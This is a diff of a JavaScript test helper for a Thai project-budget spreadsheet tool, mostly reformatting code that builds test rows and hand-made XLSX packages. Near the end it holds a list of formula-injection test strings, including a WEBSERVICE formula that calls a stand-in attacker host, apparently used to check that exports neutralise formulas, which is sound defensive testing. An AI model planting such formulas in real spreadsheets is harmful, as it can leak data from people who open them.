@@ -48,7 +48,21 @@ function budgetCode(n) {
 
 /** A valid DOE project row of FY2569 in header order; `overrides` by header index. */
 function validRow(n, overrides = {}) {
-  const row = [`H-${n}`, `โครงการทดสอบ ${n}`, "DOE", "โครงการประจำปีงบประมาณ", 2569, budgetCode(n), 1000000, 3, 11, "1104", 40, 100000, null];
+  const row = [
+    `H-${n}`,
+    `โครงการทดสอบ ${n}`,
+    "DOE",
+    "โครงการประจำปีงบประมาณ",
+    2569,
+    budgetCode(n),
+    1000000,
+    3,
+    11,
+    "1104",
+    40,
+    100000,
+    null,
+  ];
   for (const [i, v] of Object.entries(overrides)) row[Number(i)] = v;
   return row;
 }
@@ -119,7 +133,10 @@ async function handMadePackage(sheets, opts = {}) {
   const date = FIXED_DATE;
   const paths = sheets.map((s, i) => s.path ?? `xl/worksheets/sheet${i + 1}.xml`);
   const overrides = paths
-    .map((p) => `<Override PartName="/${p}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>`)
+    .map(
+      (p) =>
+        `<Override PartName="/${p}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>`
+    )
     .join("");
   const ssOverride = opts.sharedStrings
     ? `<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>`
@@ -134,20 +151,37 @@ async function handMadePackage(sheets, opts = {}) {
       `<Relationship Id="rId1" Type="${REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
     "xl/workbook.xml":
       `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="${MAIN_NS}" xmlns:r="${REL_NS}"><workbookPr ${opts.workbookPr ?? ""}/><sheets>` +
-      sheets.map((s, i) => `<sheet name="${esc(s.name)}" sheetId="${i + 1}"${s.state ? ` state="${s.state}"` : ""} r:id="rId${i + 1}"/>`).join("") +
+      sheets
+        .map(
+          (s, i) =>
+            `<sheet name="${esc(s.name)}" sheetId="${i + 1}"${s.state ? ` state="${s.state}"` : ""} r:id="rId${i + 1}"/>`
+        )
+        .join("") +
       `</sheets></workbook>`,
     "xl/_rels/workbook.xml.rels":
       `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="${PKG_REL_NS}">` +
-      paths.map((p, i) => `<Relationship Id="rId${i + 1}" Type="${REL_NS}/worksheet" Target="${p.replace(/^xl\//, "")}"/>`).join("") +
-      (opts.sharedStrings ? `<Relationship Id="rIdSS" Type="${REL_NS}/sharedStrings" Target="sharedStrings.xml"/>` : "") +
+      paths
+        .map(
+          (p, i) =>
+            `<Relationship Id="rId${i + 1}" Type="${REL_NS}/worksheet" Target="${p.replace(/^xl\//, "")}"/>`
+        )
+        .join("") +
+      (opts.sharedStrings
+        ? `<Relationship Id="rIdSS" Type="${REL_NS}/sharedStrings" Target="sharedStrings.xml"/>`
+        : "") +
       `</Relationships>`,
   };
   sheets.forEach((s, i) => (files[paths[i]] = s.xml));
   if (opts.sharedStrings) files["xl/sharedStrings.xml"] = opts.sharedStrings;
   Object.assign(files, opts.extraFiles ?? {});
   for (const path of opts.omit ?? []) delete files[path];
-  for (const [path, content] of Object.entries(files)) zip.file(path, content, { date, createFolders: false });
-  return zip.generateAsync({ type: "nodebuffer", compression: "DEFLATE", compressionOptions: { level: 9 } });
+  for (const [path, content] of Object.entries(files))
+    zip.file(path, content, { date, createFolders: false });
+  return zip.generateAsync({
+    type: "nodebuffer",
+    compression: "DEFLATE",
+    compressionOptions: { level: 9 },
+  });
 }
 
 /** Strings a spreadsheet would run as formulas if they were written as formulas (CSV/formula injection). */
@@ -159,7 +193,7 @@ const INJECTION_STRINGS = [
   "\t=1+1",
   "\r=1+1",
   "=1+1",
-  "=WEBSERVICE(\"http://evil.example\")",
+  '=WEBSERVICE("http://evil.example")',
 ];
 
 /** A tracker sheet's rows: the Thai header then `rows`. */
